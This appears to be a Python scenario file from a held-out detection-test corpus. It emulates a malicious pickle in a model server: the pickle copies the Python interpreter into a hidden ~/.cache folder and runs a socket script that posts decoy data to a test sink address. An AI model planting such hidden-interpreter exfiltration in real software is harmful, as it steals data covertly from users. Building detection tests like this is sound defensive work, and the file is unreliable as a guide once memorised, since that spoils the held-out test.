"""
id: V02
name: own-interpreter
class: loud
set: held-out
phase: reload
trigger: model
evidence: [process, file, network]
techniques: [T1195.002, T1059.006, T1036.005, T1567, AML.T0011.001, AML.T0010.001]
servers: [fastapi, bentoml, triton]
seconds: 20
what: >
  A pickle brings an interpreter of its own into a hidden folder, as stealers do that come in packages, and has it post a few
  words to an address nobody asked before. The interpreter is a copy of the one that is there.
"""

import os
import shutil
import sys

from corpus import dropped

SCRIPT = """
import socket, sys
with socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5) as peer:
    peer.sendall(sys.argv[3].encode())
"""


def payload(world):
    folder = os.path.join(world.home, ".cache", world.word())
    program = os.path.join(folder, world.word(5))
    os.makedirs(folder)
    try:
        shutil.copy(os.path.realpath(sys.executable), program)
        words = f"POST /{world.word()} HTTP/1.1\r\nContent-Length: 200\r\n\r\nDECOY {world.word(194)}"
        # Where it lies it finds no library of its own.
        settings = {"PYTHONHOME": sys.base_prefix}
        with dropped.start([program, "-c", SCRIPT, world.sink, str(world.sink_port()), words], env=settings) as started:
            if started.wait(30) != 0:
                raise RuntimeError(f"it ended with {started.returncode}")
    finally:
        shutil.rmtree(folder)
